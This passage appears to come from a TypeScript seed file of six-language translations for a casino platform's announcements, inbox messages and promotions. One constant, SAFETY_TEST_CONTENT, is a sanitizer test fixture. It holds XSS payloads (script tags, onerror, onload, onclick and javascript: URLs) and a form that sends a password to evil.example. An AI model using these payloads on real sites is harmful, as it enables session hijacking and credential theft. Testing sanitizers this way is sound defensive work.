import {
  type ContentKind,
  putManyTranslations,
  type TextInAllLanguages,
  type TextWithTurkish,
  type TranslatedLanguage,
  type TranslationRow,
} from '#server/services/content-language';
import { siteLanguageReading } from '#server/services/merchant-settings';
import { WELCOME_MESSAGES } from '#server/services/welcome-messages';
import { DEFAULT_LANGUAGE_READING, type LanguageReading } from '#src/shared/contract/platform';
import type { Db } from '../database';
import { MERCHANTS } from './site';
import { ACCOUNT_TEXTS } from './translations-account';
import { seedTurkish } from './translations-turkish';

/**
 * The seed's texts in the other five languages, keyed by the English the seed writes (as a
 * gettext catalog is): announcements, inbox messages, promotions, home news, banner titles and
 * the site settings' licence text and app description; the account screens' texts (reward-centre
 * titles, the points mall, deposit channels, rejection reasons, feedback replies) are in
 * translations-account.ts, each with a Turkish version too (`TR`). Short, for 360 px screens, in each
 * language's terms (locales/<LANG>/glossary.json); brand and vendor names stay as they are.
 * `{symbol}` stands for the merchant's currency symbol in the texts that carry one.
 *
 * VIP level names ("VIP 1" ... "VIP 15") read the same in every language (the app's catalogs
 * keep "VIP" too): they have no rows here, and an operator may still translate a level's name.
 */
export type SeedTexts = TextInAllLanguages;

// ---------------------------------------------------------------------------------------------
// Shared parts

const TERMS: SeedTexts = {
  EN: '<h3>Terms</h3><ol><li>One bonus per member, account, IP and device.</li><li>Turnover 10x before withdrawal.</li></ol>',
  CN: '<h3>条款</h3><ol><li>每位会员、账户、IP 及设备限领一次奖金。</li><li>提款前需完成 10 倍流水。</li></ol>',
  TH: '<h3>เงื่อนไข</h3><ol><li>รับโบนัสได้หนึ่งครั้งต่อสมาชิก บัญชี IP และอุปกรณ์</li><li>ทำเทิร์นโอเวอร์ 10 เท่าก่อนถอน</li></ol>',
  VI: '<h3>Điều khoản</h3><ol><li>Mỗi thành viên, tài khoản, IP và thiết bị chỉ nhận thưởng một lần.</li><li>Đạt doanh số cược gấp 10 lần trước khi rút.</li></ol>',
  TY: '<h3>Mga tuntunin</h3><ol><li>Isang bonus lang bawat miyembro, account, IP at device.</li><li>Turnover na 10x bago mag-withdraw.</li></ol>',
  PT: '<h3>Termos</h3><ol><li>Um bônus por membro, conta, IP e dispositivo.</li><li>Rollover de 10x antes do saque.</li></ol>',
};

/** Each language's text made from its own words: `make(words[language], language)`. */
function each<W>(words: { readonly EN: W } & Readonly<Record<TranslatedLanguage, W>>, make: (w: W, language: keyof SeedTexts) => string): SeedTexts {
  return {
    EN: make(words.EN, 'EN'),
    CN: make(words.CN, 'CN'),
    TH: make(words.TH, 'TH'),
    VI: make(words.VI, 'VI'),
    TY: make(words.TY, 'TY'),
    PT: make(words.PT, 'PT'),
  };
}

/** ￥1,888, or ￥1.888 where the language groups thousands with a point (docs/decisions/016), as the seed's texts write money. */
function yen(amount: number, language: keyof SeedTexts): string {
  return `￥${new Intl.NumberFormat(language === 'PT' || language === 'VI' ? 'pt-BR' : 'en').format(amount)}`;
}

const welcomeBonusTableRows = (language: keyof SeedTexts) =>
  `<tbody><tr><td>${yen(100, language)}</td><td>${yen(100, language)}</td><td>10x</td></tr>` +
  `<tr><td>${yen(500, language)}</td><td>${yen(500, language)}</td><td>12x</td></tr>` +
  `<tr><td>${yen(1888, language)}</td><td>${yen(1888, language)}</td><td>15x</td></tr></tbody></table>`;

const WELCOME_BONUS_CONTENT = each(
  {
    EN: [
      '<p>Double your <strong>first deposit</strong> up to ￥1,888.</p>',
      'Welcome bonus',
      ['Deposit', 'Bonus', 'Turnover'],
      '<p>Read the <a href="/m/vip">VIP club rules</a> or <a href="https://example.com/terms" target="_blank" rel="noopener">full terms</a>.</p>',
    ],
    CN: [
      '<p><strong>首次充值</strong>翻倍，最高 ￥1,888。</p>',
      '迎新奖金',
      ['充值', '奖金', '流水'],
      '<p>阅读<a href="/m/vip">VIP 俱乐部规则</a>或<a href="https://example.com/terms" target="_blank" rel="noopener">完整条款</a>。</p>',
    ],
    TH: [
      '<p><strong>ฝากครั้งแรก</strong>รับเพิ่มอีกเท่าตัว สูงสุด ￥1,888</p>',
      'โบนัสต้อนรับ',
      ['ฝาก', 'โบนัส', 'เทิร์นโอเวอร์'],
      '<p>อ่าน<a href="/m/vip">กติกาคลับ VIP</a> หรือ<a href="https://example.com/terms" target="_blank" rel="noopener">เงื่อนไขฉบับเต็ม</a></p>',
    ],
    VI: [
      '<p>Nhân đôi <strong>lần nạp đầu</strong>, tối đa ￥1.888.</p>',
      'Thưởng chào mừng',
      ['Nạp', 'Thưởng', 'Doanh số cược'],
      '<p>Đọc <a href="/m/vip">quy định Câu lạc bộ VIP</a> hoặc <a href="https://example.com/terms" target="_blank" rel="noopener">điều khoản đầy đủ</a>.</p>',
    ],
    TY: [
      '<p>Doblehin ang iyong <strong>unang deposito</strong> hanggang ￥1,888.</p>',
      'Bonus sa pagsali',
      ['Deposito', 'Bonus', 'Turnover'],
      '<p>Basahin ang <a href="/m/vip">mga patakaran ng VIP Club</a> o ang <a href="https://example.com/terms" target="_blank" rel="noopener">buong tuntunin</a>.</p>',
    ],
    PT: [
      '<p>Dobre seu <strong>primeiro depósito</strong> até ￥1.888.</p>',
      'Bônus de boas-vindas',
      ['Depósito', 'Bônus', 'Rollover'],
      '<p>Leia as <a href="/m/vip">regras do Clube VIP</a> ou os <a href="https://example.com/terms" target="_blank" rel="noopener">termos completos</a>.</p>',
    ],
  } as const,
  ([lead, alt, [deposit, bonus, turnover], read], language) =>
    `${lead}<p><img src="/cdn/a/banners/promo-banner-1.svg" alt="${alt}"></p>` +
    `<table><thead><tr><th>${deposit}</th><th>${bonus}</th><th>${turnover}</th></tr></thead>${welcomeBonusTableRows(language)}` +
    `${read}${TERMS[language]}`,
);

const SAFETY_TEST_CONTENT = each(
  {
    EN: ['Harmless text survives.', 'broken', 'click', 'Send', 'Tap'],
    CN: ['无害的文字会保留。', '图片损坏', '点击', '发送', '轻触'],
    TH: ['ข้อความที่ไม่เป็นอันตรายยังอยู่', 'รูปเสีย', 'คลิก', 'ส่ง', 'แตะ'],
    VI: ['Văn bản vô hại vẫn còn.', 'ảnh lỗi', 'nhấn', 'Gửi', 'Chạm'],
    TY: ['Nananatili ang ligtas na teksto.', 'sirang larawan', 'i-click', 'Ipadala', 'Pindutin'],
    PT: ['O texto inofensivo permanece.', 'imagem quebrada', 'clique', 'Enviar', 'Toque'],
  } as const,
  ([harmless, broken, click, send, tap]) =>
    `<p>${harmless}</p><script>window.__xss = "script"</script>` +
    `<img src="x" onerror="window.__xss = 'onerror'" alt="${broken}">` +
    `<a href="javascript:window.__xss = 'href'">${click}</a>` +
    `<iframe src="javascript:window.__xss = 'iframe'"></iframe>` +
    `<form action="https://evil.example/steal"><input name="password"><button>${send}</button></form>` +
    `<div onclick="window.__xss = 'onclick'" style="background:url(javascript:alert(1))">${tap}</div>` +
    `<svg onload="window.__xss = 'svg'"><circle r="4"></circle></svg>`,
);

const withTerms = (lead: SeedTexts): SeedTexts => each(lead, (text, language) => `${text}${TERMS[language]}`);

// ---------------------------------------------------------------------------------------------
// Announcements (seed/messages.ts)

const ANNOUNCEMENTS: readonly SeedTexts[] = [
  {
    EN: 'Welcome to the lobby: new slots every week',
    CN: '欢迎来到游戏大厅：每周上新老虎机',
    TH: 'ยินดีต้อนรับสู่ล็อบบี้: สล็อตใหม่ทุกสัปดาห์',
    VI: 'Chào mừng đến sảnh game: slot mới mỗi tuần',
    TY: 'Maligayang pagdating sa lobby: bagong slot bawat linggo',
    PT: 'Bem-vindo ao lobby: caça-níqueis novos toda semana',
  },
  {
    EN: '<p>New games arrive every Monday.</p>',
    CN: '<p>每周一都有新游戏上线。</p>',
    TH: '<p>เกมใหม่มาทุกวันจันทร์</p>',
    VI: '<p>Trò chơi mới ra mắt vào thứ Hai hằng tuần.</p>',
    TY: '<p>May bagong laro tuwing Lunes.</p>',
    PT: '<p>Jogos novos chegam toda segunda-feira.</p>',
  },
  {
    EN: 'Scheduled maintenance on Sunday 02:00-04:00',
    CN: '周日 02:00-04:00 系统维护',
    TH: 'ปิดปรับปรุงระบบวันอาทิตย์ 02:00-04:00',
    VI: 'Bảo trì định kỳ Chủ nhật 02:00-04:00',
    TY: 'Nakatakdang maintenance sa Linggo, 02:00-04:00',
    PT: 'Manutenção programada no domingo, 02:00-04:00',
  },
  {
    EN: '<p>Wallet services pause during the window. Games already open keep running; deposits and withdrawals resume at 04:00.</p>',
    CN: '<p>维护期间钱包服务暂停。已打开的游戏可继续进行；充值和提款将于 04:00 恢复。</p>',
    TH: '<p>บริการกระเป๋าเงินหยุดชั่วคราวในช่วงนี้ เกมที่เปิดอยู่แล้วเล่นต่อได้ การฝากและถอนจะกลับมาเวลา 04:00</p>',
    VI: '<p>Dịch vụ ví tạm dừng trong thời gian này. Trò chơi đang mở vẫn chạy bình thường; nạp và rút tiền hoạt động lại lúc 04:00.</p>',
    TY: '<p>Hihinto muna ang serbisyo ng wallet sa oras na ito. Tuloy ang mga larong bukas na; babalik ang deposito at withdraw sa 04:00.</p>',
    PT: '<p>Os serviços da carteira ficam pausados nesse período. Jogos já abertos continuam; depósitos e saques voltam às 04:00.</p>',
  },
  {
    EN: 'Deposit bonus for new players',
    CN: '新玩家充值奖金',
    TH: 'โบนัสเงินฝากสำหรับผู้เล่นใหม่',
    VI: 'Thưởng nạp cho người chơi mới',
    TY: 'Bonus sa deposito ng bagong manlalaro',
    PT: 'Bônus de depósito para novos jogadores',
  },
  {
    EN:
      '<p>Your <strong>first deposit</strong> gets a <b>100% match</b>, up to ￥1,888.</p>' +
      '<ul><li>Minimum deposit ￥100</li><li>Wagering 10× the bonus</li><li>Valid for 7 days after the deposit</li></ul>' +
      '<p><img src="/cdn/a/banners/home-1.svg" alt="Welcome bonus banner"></p>' +
      '<p>Full terms on the <a href="/m/activity">promotions page</a>.</p>',
    CN:
      '<p>您的<strong>首次充值</strong>可获 <b>100% 奖金</b>，最高 ￥1,888。</p>' +
      '<ul><li>最低充值 ￥100</li><li>奖金需完成 10 倍流水</li><li>充值后 7 天内有效</li></ul>' +
      '<p><img src="/cdn/a/banners/home-1.svg" alt="迎新奖金横幅"></p>' +
      '<p>完整条款请见<a href="/m/activity">优惠页面</a>。</p>',
    TH:
      '<p><strong>การฝากครั้งแรก</strong>ของคุณรับ<b>โบนัส 100%</b> สูงสุด ￥1,888</p>' +
      '<ul><li>ฝากขั้นต่ำ ￥100</li><li>ทำยอดเดิมพัน 10 เท่าของโบนัส</li><li>ใช้ได้ 7 วันหลังการฝาก</li></ul>' +
      '<p><img src="/cdn/a/banners/home-1.svg" alt="แบนเนอร์โบนัสต้อนรับ"></p>' +
      '<p>ดูเงื่อนไขทั้งหมดที่<a href="/m/activity">หน้าโปรโมชั่น</a></p>',
    VI:
      '<p><strong>Lần nạp đầu</strong> của bạn được <b>thưởng 100%</b>, tối đa ￥1.888.</p>' +
      '<ul><li>Nạp tối thiểu ￥100</li><li>Cược gấp 10 lần tiền thưởng</li><li>Hiệu lực 7 ngày sau khi nạp</li></ul>' +
      '<p><img src="/cdn/a/banners/home-1.svg" alt="Banner thưởng chào mừng"></p>' +
      '<p>Xem đầy đủ điều khoản tại <a href="/m/activity">trang khuyến mãi</a>.</p>',
    TY:
      '<p>Ang iyong <strong>unang deposito</strong> ay may <b>100% match</b>, hanggang ￥1,888.</p>' +
      '<ul><li>Minimum na deposito ￥100</li><li>Taya na 10× ng bonus</li><li>Valid nang 7 araw matapos ang deposito</li></ul>' +
      '<p><img src="/cdn/a/banners/home-1.svg" alt="Banner ng welcome bonus"></p>' +
      '<p>Buong tuntunin sa <a href="/m/activity">pahina ng promo</a>.</p>',
    PT:
      '<p>Seu <strong>primeiro depósito</strong> ganha <b>100% de bônus</b>, até ￥1.888.</p>' +
      '<ul><li>Depósito mínimo de ￥100</li><li>Apostas de 10× o bônus</li><li>Válido por 7 dias após o depósito</li></ul>' +
      '<p><img src="/cdn/a/banners/home-1.svg" alt="Banner do bônus de boas-vindas"></p>' +
      '<p>Termos completos na <a href="/m/activity">página de promoções</a>.</p>',
  },
  {
    EN: 'Weekend cashback is live',
    CN: '周末返现活动已开启',
    TH: 'คืนยอดเสียสุดสัปดาห์มาแล้ว',
    VI: 'Hoàn tiền cuối tuần đã bắt đầu',
    TY: 'Live na ang weekend cashback',
    PT: 'O cashback de fim de semana começou',
  },
  {
    EN: '<p>Up to <b>1.5%</b> cashback on every valid bet, paid on Monday.</p>',
    CN: '<p>每笔有效投注最高可获 <b>1.5%</b> 返现，周一发放。</p>',
    TH: '<p>รับคืนยอดเสียสูงสุด <b>1.5%</b> จากทุกยอดเดิมพันที่ถูกต้อง จ่ายวันจันทร์</p>',
    VI: '<p>Hoàn tiền đến <b>1,5%</b> trên mọi cược hợp lệ, trả vào thứ Hai.</p>',
    TY: '<p>Hanggang <b>1.5%</b> cashback sa bawat balidong taya, ibinibigay tuwing Lunes.</p>',
    PT: '<p>Até <b>1,5%</b> de cashback em todas as apostas válidas, pago na segunda-feira.</p>',
  },
  {
    EN: 'Refer a friend and earn',
    CN: '邀请好友，赚取奖励',
    TH: 'ชวนเพื่อนแล้วรับรางวัล',
    VI: 'Giới thiệu bạn bè, nhận thưởng',
    TY: 'Mag-imbita ng kaibigan at kumita',
    PT: 'Indique um amigo e ganhe',
  },
  {
    EN: '<p>Invite friends with your share link and earn a reward for each friend who deposits.</p>',
    CN: '<p>用您的分享链接邀请好友，每位完成充值的好友都能为您带来奖励。</p>',
    TH: '<p>ชวนเพื่อนด้วยลิงก์แชร์ของคุณ แล้วรับรางวัลจากเพื่อนทุกคนที่ฝากเงิน</p>',
    VI: '<p>Mời bạn bè bằng liên kết chia sẻ và nhận thưởng cho mỗi người bạn nạp tiền.</p>',
    TY: '<p>Imbitahin ang mga kaibigan gamit ang iyong share link at makatanggap ng gantimpala sa bawat kaibigang magdeposito.</p>',
    PT: '<p>Convide amigos com seu link de compartilhamento e ganhe uma recompensa por cada amigo que fizer um depósito.</p>',
  },
  {
    EN: 'Agent commission report ready',
    CN: '代理佣金报表已出',
    TH: 'รายงานคอมมิชชันเอเจนต์พร้อมแล้ว',
    VI: 'Báo cáo hoa hồng đại lý đã sẵn sàng',
    TY: 'Handa na ang ulat ng komisyon ng ahente',
    PT: 'Relatório de comissões do agente disponível',
  },
  {
    EN: "<p>Last month's commissions are in your agent centre.</p>",
    CN: '<p>上月佣金已在您的代理中心。</p>',
    TH: '<p>คอมมิชชันของเดือนที่แล้วอยู่ในศูนย์เอเจนต์ของคุณ</p>',
    VI: '<p>Hoa hồng tháng trước đã có trong trung tâm đại lý của bạn.</p>',
    TY: '<p>Nasa iyong sentro ng ahente na ang mga komisyon noong nakaraang buwan.</p>',
    PT: '<p>As comissões do mês passado estão na sua central do agente.</p>',
  },
  {
    EN: 'New agent tiers from next month',
    CN: '下月起启用新代理等级',
    TH: 'ระดับเอเจนต์ใหม่ เริ่มเดือนหน้า',
    VI: 'Cấp đại lý mới từ tháng sau',
    TY: 'Bagong antas ng ahente sa susunod na buwan',
    PT: 'Novos níveis de agente a partir do próximo mês',
  },
  {
    EN: '<p>Three tiers with a higher share for agents with more active members.</p>',
    CN: '<p>共三个等级，活跃会员越多，代理分成越高。</p>',
    TH: '<p>มีสามระดับ เอเจนต์ที่มีสมาชิกแอคทีฟมากกว่าได้ส่วนแบ่งสูงกว่า</p>',
    VI: '<p>Ba cấp, đại lý có nhiều thành viên hoạt động hơn nhận tỷ lệ chia cao hơn.</p>',
    TY: '<p>Tatlong antas, mas malaking hati para sa mga ahenteng may mas maraming aktibong miyembro.</p>',
    PT: '<p>Três níveis, com participação maior para agentes com mais membros ativos.</p>',
  },
  {
    EN: 'Marketing kit for agents',
    CN: '代理营销素材包',
    TH: 'ชุดสื่อการตลาดสำหรับเอเจนต์',
    VI: 'Bộ tài liệu tiếp thị cho đại lý',
    TY: 'Marketing kit para sa mga ahente',
    PT: 'Kit de marketing para agentes',
  },
  {
    EN: '<p>Banners and share texts in six languages are ready to download.</p>',
    CN: '<p>六种语言的横幅和分享文案已可下载。</p>',
    TH: '<p>แบนเนอร์และข้อความสำหรับแชร์ 6 ภาษาพร้อมให้ดาวน์โหลดแล้ว</p>',
    VI: '<p>Banner và nội dung chia sẻ bằng sáu ngôn ngữ đã sẵn sàng để tải về.</p>',
    TY: '<p>Handa nang i-download ang mga banner at share text sa anim na wika.</p>',
    PT: '<p>Banners e textos para compartilhar em seis idiomas já estão disponíveis para baixar.</p>',
  },
];

// ---------------------------------------------------------------------------------------------
// Inbox messages of the demo members (seed/messages.ts); {symbol} is the merchant's currency

const INBOX: readonly SeedTexts[] = [
  { EN: 'Deposit confirmed', CN: '充值成功', TH: 'ยืนยันการฝากเงินแล้ว', VI: 'Đã xác nhận nạp tiền', TY: 'Kumpirmado ang deposito', PT: 'Depósito confirmado' },
  {
    EN: '<p>Your deposit of <b>{symbol}500.00</b> has been credited to your wallet.</p><p>Reference: DP-20431.</p>',
    CN: '<p>您充值的 <b>{symbol}500.00</b> 已到账，请查看钱包。</p><p>参考号：DP-20431。</p>',
    TH: '<p>ยอดฝาก <b>{symbol}500.00</b> ของคุณเข้ากระเป๋าเงินแล้ว</p><p>หมายเลขอ้างอิง: DP-20431</p>',
    VI: '<p>Khoản nạp <b>{symbol}500,00</b> đã được cộng vào ví của bạn.</p><p>Mã tham chiếu: DP-20431.</p>',
    TY: '<p>Naipasok na sa iyong wallet ang deposito mong <b>{symbol}500.00</b>.</p><p>Numero ng order: DP-20431.</p>',
    PT: '<p>Seu depósito de <b>{symbol}500,00</b> foi creditado na sua carteira.</p><p>Referência: DP-20431.</p>',
  },
  { EN: 'Bonus credited', CN: '奖金已到账', TH: 'ได้รับโบนัสแล้ว', VI: 'Đã cộng tiền thưởng', TY: 'Naibigay na ang bonus', PT: 'Bônus creditado' },
  {
    EN: '<p>A bonus of <b>{symbol}50.00</b> from <a href="/m/activity">Weekend cashback</a> is in your reward centre.</p>',
    CN: '<p>来自<a href="/m/activity">周末返现</a>的 <b>{symbol}50.00</b> 奖金已放入您的奖励中心。</p>',
    TH: '<p>โบนัส <b>{symbol}50.00</b> จาก<a href="/m/activity">คืนยอดเสียสุดสัปดาห์</a>อยู่ในศูนย์รางวัลของคุณแล้ว</p>',
    VI: '<p>Khoản thưởng <b>{symbol}50,00</b> từ <a href="/m/activity">Hoàn tiền cuối tuần</a> đã có trong trung tâm phần thưởng của bạn.</p>',
    TY: '<p>Nasa iyong sentro ng gantimpala na ang bonus na <b>{symbol}50.00</b> mula sa <a href="/m/activity">weekend cashback</a>.</p>',
    PT: '<p>Um bônus de <b>{symbol}50,00</b> do <a href="/m/activity">cashback de fim de semana</a> está na sua central de recompensas.</p>',
  },
  {
    EN: 'New login to your account',
    CN: '您的账户有新的登录',
    TH: 'มีการเข้าสู่ระบบใหม่ในบัญชีของคุณ',
    VI: 'Đăng nhập mới vào tài khoản của bạn',
    TY: 'Bagong pag-log in sa iyong account',
    PT: 'Novo acesso à sua conta',
  },
  {
    EN: '<p>Your account was signed in from a new device.</p><ul><li>Device: Android phone</li><li>Region: Manila</li></ul><p>Not you? Change your password at once.</p>',
    CN: '<p>您的账户在一台新设备上登录。</p><ul><li>设备：Android 手机</li><li>地区：马尼拉</li></ul><p>不是您本人？请立即修改密码。</p>',
    TH: '<p>มีการเข้าสู่ระบบบัญชีของคุณจากอุปกรณ์ใหม่</p><ul><li>อุปกรณ์: โทรศัพท์ Android</li><li>ภูมิภาค: มะนิลา</li></ul><p>ไม่ใช่คุณใช่ไหม เปลี่ยนรหัสผ่านทันที</p>',
    VI: '<p>Tài khoản của bạn vừa đăng nhập từ một thiết bị mới.</p><ul><li>Thiết bị: điện thoại Android</li><li>Khu vực: Manila</li></ul><p>Không phải bạn? Hãy đổi mật khẩu ngay.</p>',
    TY: '<p>May nag-sign in sa iyong account mula sa bagong device.</p><ul><li>Device: Android phone</li><li>Rehiyon: Manila</li></ul><p>Hindi ikaw? Palitan agad ang iyong password.</p>',
    PT: '<p>Sua conta foi acessada de um novo dispositivo.</p><ul><li>Dispositivo: celular Android</li><li>Região: Manila</li></ul><p>Não foi você? Altere sua senha agora mesmo.</p>',
  },
  {
    EN: 'Your weekly report',
    CN: '您的每周报告',
    TH: 'รายงานประจำสัปดาห์ของคุณ',
    VI: 'Báo cáo tuần của bạn',
    TY: 'Ang iyong lingguhang ulat',
    PT: 'Seu relatório semanal',
  },
  {
    EN: '<p>Last week you placed <b>42 bets</b> in 6 games. Your favourite vendor: JILI.</p>',
    CN: '<p>上周您在 6 款游戏中<b>投注 42 次</b>。您最喜欢的厂商：JILI。</p>',
    TH: '<p>สัปดาห์ที่แล้วคุณ<b>เดิมพัน 42 ครั้ง</b>ใน 6 เกม ค่ายเกมโปรดของคุณ: JILI</p>',
    VI: '<p>Tuần trước bạn đã đặt <b>42 cược</b> trong 6 trò chơi. Nhà cung cấp yêu thích: JILI.</p>',
    TY: '<p>Noong nakaraang linggo, naglagay ka ng <b>42 taya</b> sa 6 na laro. Paborito mong provider: JILI.</p>',
    PT: '<p>Na semana passada você fez <b>42 apostas</b> em 6 jogos. Seu provedor favorito: JILI.</p>',
  },
  { EN: 'Security reminder', CN: '安全提醒', TH: 'แจ้งเตือนความปลอดภัย', VI: 'Nhắc nhở bảo mật', TY: 'Paalala sa seguridad', PT: 'Lembrete de segurança' },
  {
    EN: '<p>We will never ask for your password or verification code. Keep them to yourself.</p>',
    CN: '<p>我们绝不会向您索要密码或验证码，请妥善保管。</p>',
    TH: '<p>เราจะไม่ขอรหัสผ่านหรือรหัสยืนยันของคุณ โปรดเก็บไว้เป็นความลับ</p>',
    VI: '<p>Chúng tôi không bao giờ hỏi mật khẩu hay mã xác minh của bạn. Hãy tự giữ kín.</p>',
    TY: '<p>Hinding-hindi namin hihingin ang iyong password o code ng beripikasyon. Huwag itong ibigay kaninuman.</p>',
    PT: '<p>Nunca pediremos sua senha ou código de verificação. Guarde-os só para você.</p>',
  },
  // 'Welcome to the lobby' is a welcome message's title: its translations are the welcome message's.
  {
    EN: '<p>Thank you for joining. Explore thousands of games and see the <a href="/m/activity">promotions</a> waiting for you.</p>',
    CN: '<p>感谢您的加入。畅玩数千款游戏，还有<a href="/m/activity">优惠活动</a>等着您。</p>',
    TH: '<p>ขอบคุณที่มาร่วมกับเรา สำรวจเกมนับพันและดู<a href="/m/activity">โปรโมชั่น</a>ที่รอคุณอยู่</p>',
    VI: '<p>Cảm ơn bạn đã tham gia. Khám phá hàng nghìn trò chơi và xem các <a href="/m/activity">khuyến mãi</a> đang chờ bạn.</p>',
    TY: '<p>Salamat sa pagsali. Tuklasin ang libu-libong laro at tingnan ang mga <a href="/m/activity">promo</a> na naghihintay sa iyo.</p>',
    PT: '<p>Obrigado por se juntar a nós. Explore milhares de jogos e confira as <a href="/m/activity">promoções</a> esperando por você.</p>',
  },
  { EN: 'Commission paid', CN: '佣金已发放', TH: 'จ่ายคอมมิชชันแล้ว', VI: 'Đã trả hoa hồng', TY: 'Naibayad na ang komisyon', PT: 'Comissão paga' },
  {
    EN: '<p>Your commission of <b>{symbol}1,250.00</b> for last month has been paid.</p>',
    CN: '<p>您上月的佣金 <b>{symbol}1,250.00</b> 已发放。</p>',
    TH: '<p>คอมมิชชันเดือนที่แล้วของคุณ <b>{symbol}1,250.00</b> จ่ายแล้ว</p>',
    VI: '<p>Hoa hồng tháng trước của bạn <b>{symbol}1.250,00</b> đã được thanh toán.</p>',
    TY: '<p>Naibayad na ang iyong komisyon na <b>{symbol}1,250.00</b> para sa nakaraang buwan.</p>',
    PT: '<p>Sua comissão de <b>{symbol}1.250,00</b> referente ao mês passado foi paga.</p>',
  },
];

// ---------------------------------------------------------------------------------------------
// Promotions (seed/promotions.ts)

const PROMOTIONS: readonly SeedTexts[] = [
  {
    EN: 'Welcome bonus: 100% on your first deposit',
    CN: '迎新奖金：首次充值送 100%',
    TH: 'โบนัสต้อนรับ: รับ 100% จากการฝากครั้งแรก',
    VI: 'Thưởng chào mừng: 100% lần nạp đầu',
    TY: 'Bonus sa pagsali: 100% sa unang deposito',
    PT: 'Bônus de boas-vindas: 100% no primeiro depósito',
  },
  WELCOME_BONUS_CONTENT,
  {
    EN: 'Deposit slip reward: send your receipt',
    CN: '充值凭证奖励：上传您的收据',
    TH: 'รางวัลสลิปฝากเงิน: ส่งใบเสร็จของคุณ',
    VI: 'Thưởng biên lai nạp: gửi biên lai của bạn',
    TY: 'Gantimpala sa slip ng deposito: ipadala ang resibo',
    PT: 'Recompensa por comprovante de depósito: envie o recibo',
  },
  withTerms({
    EN: '<p>Upload a picture of your deposit receipt and get 5% extra.</p>',
    CN: '<p>上传充值收据的照片，额外获得 5%。</p>',
    TH: '<p>อัปโหลดรูปใบเสร็จการฝากเงิน รับเพิ่ม 5%</p>',
    VI: '<p>Tải lên ảnh biên lai nạp tiền và nhận thêm 5%.</p>',
    TY: '<p>Mag-upload ng larawan ng resibo ng iyong deposito at makakuha ng dagdag na 5%.</p>',
    PT: '<p>Envie uma foto do comprovante do seu depósito e ganhe 5% extra.</p>',
  }),
  {
    EN: 'Daily reload 10%',
    CN: '每日续充 10%',
    TH: 'เติมเงินรายวัน 10%',
    VI: 'Nạp lại hằng ngày 10%',
    TY: 'Araw-araw na reload 10%',
    PT: 'Recarga diária de 10%',
  },
  {
    EN: '<p>Every day, your first reload earns 10% up to ￥300. No form to fill: just apply.</p>',
    CN: '<p>每天首次续充可得 10%，最高 ￥300。无需填表，直接申请即可。</p>',
    TH: '<p>ทุกวัน การเติมเงินครั้งแรกของคุณรับ 10% สูงสุด ￥300 ไม่ต้องกรอกฟอร์ม แค่กดขอรับ</p>',
    VI: '<p>Mỗi ngày, lần nạp lại đầu tiên được thêm 10%, tối đa ￥300. Không cần điền đơn: chỉ cần đăng ký nhận.</p>',
    TY: '<p>Araw-araw, ang una mong reload ay may 10% hanggang ￥300. Walang form na pupunan: mag-apply lang.</p>',
    PT: '<p>Todo dia, sua primeira recarga rende 10%, até ￥300. Sem formulário: é só solicitar.</p>',
  },
  {
    EN: 'Download the app, get ￥18',
    CN: '下载 App，领 ￥18',
    TH: 'ดาวน์โหลดแอป รับ ￥18',
    VI: 'Tải ứng dụng, nhận ￥18',
    TY: 'I-download ang app, makakuha ng ￥18',
    PT: 'Baixe o app e ganhe ￥18',
  },
  {
    EN: '<p>Install the app from the <a href="/m/app">download page</a> and log in once.</p>',
    CN: '<p>从<a href="/m/app">下载页面</a>安装 App，并登录一次即可。</p>',
    TH: '<p>ติดตั้งแอปจาก<a href="/m/app">หน้าดาวน์โหลด</a> แล้วเข้าสู่ระบบหนึ่งครั้ง</p>',
    VI: '<p>Cài ứng dụng từ <a href="/m/app">trang tải về</a> và đăng nhập một lần.</p>',
    TY: '<p>I-install ang app mula sa <a href="/m/app">pahina ng download</a> at mag-log in nang isang beses.</p>',
    PT: '<p>Instale o app pela <a href="/m/app">página de download</a> e entre na sua conta uma vez.</p>',
  },
  {
    EN: 'Slots tournament: weekly leaderboard',
    CN: '老虎机锦标赛：每周排行榜',
    TH: 'ทัวร์นาเมนต์สล็อต: ตารางอันดับรายสัปดาห์',
    VI: 'Giải đấu slot: bảng xếp hạng tuần',
    TY: 'Slot tournament: lingguhang leaderboard',
    PT: 'Torneio de caça-níqueis: ranking semanal',
  },
  {
    EN: '<p>Sign up, then every valid bet on slots counts.</p><ul><li>1st: ￥8,888</li><li>2nd: ￥3,888</li><li>3rd: ￥1,888</li></ul>',
    CN: '<p>报名后，老虎机的每笔有效投注都会计入。</p><ul><li>第 1 名：￥8,888</li><li>第 2 名：￥3,888</li><li>第 3 名：￥1,888</li></ul>',
    TH: '<p>ลงชื่อเข้าร่วม แล้วทุกยอดเดิมพันที่ถูกต้องในสล็อตจะถูกนับ</p><ul><li>อันดับ 1: ￥8,888</li><li>อันดับ 2: ￥3,888</li><li>อันดับ 3: ￥1,888</li></ul>',
    VI: '<p>Đăng ký tham gia, sau đó mọi cược hợp lệ trên slot đều được tính.</p><ul><li>Hạng 1: ￥8.888</li><li>Hạng 2: ￥3.888</li><li>Hạng 3: ￥1.888</li></ul>',
    TY: '<p>Mag-sign up, at bibilang ang bawat balidong taya sa slot.</p><ul><li>Ika-1: ￥8,888</li><li>Ika-2: ￥3,888</li><li>Ika-3: ￥1,888</li></ul>',
    PT: '<p>Inscreva-se, e toda aposta válida em caça-níqueis conta.</p><ul><li>1º: ￥8.888</li><li>2º: ￥3.888</li><li>3º: ￥1.888</li></ul>',
  },
  {
    EN: 'Live casino cashback 1%',
    CN: '真人娱乐场返现 1%',
    TH: 'คืนยอดเสียคาสิโนสด 1%',
    VI: 'Hoàn tiền casino trực tiếp 1%',
    TY: 'Cashback na 1% sa live casino',
    PT: 'Cashback de 1% no cassino ao vivo',
  },
  {
    EN: '<p>1% of every live casino valid bet comes back each Monday.</p>',
    CN: '<p>真人娱乐场每笔有效投注的 1% 于每周一返还。</p>',
    TH: '<p>รับคืน 1% จากทุกยอดเดิมพันที่ถูกต้องในคาสิโนสด ทุกวันจันทร์</p>',
    VI: '<p>1% mỗi cược hợp lệ ở casino trực tiếp được hoàn lại vào thứ Hai hằng tuần.</p>',
    TY: '<p>Babalik sa iyo tuwing Lunes ang 1% ng bawat balidong taya sa live casino.</p>',
    PT: '<p>1% de cada aposta válida no cassino ao vivo volta para você toda segunda-feira.</p>',
  },
  {
    EN: 'Lucky draw: share your winning hand',
    CN: '幸运抽奖：分享您的获胜牌局',
    TH: 'ลุ้นโชค: แชร์ไพ่ที่ชนะของคุณ',
    VI: 'Rút thăm may mắn: chia sẻ ván thắng của bạn',
    TY: 'Lucky draw: ibahagi ang iyong panalong kamay',
    PT: 'Sorteio: compartilhe sua mão vencedora',
  },
  {
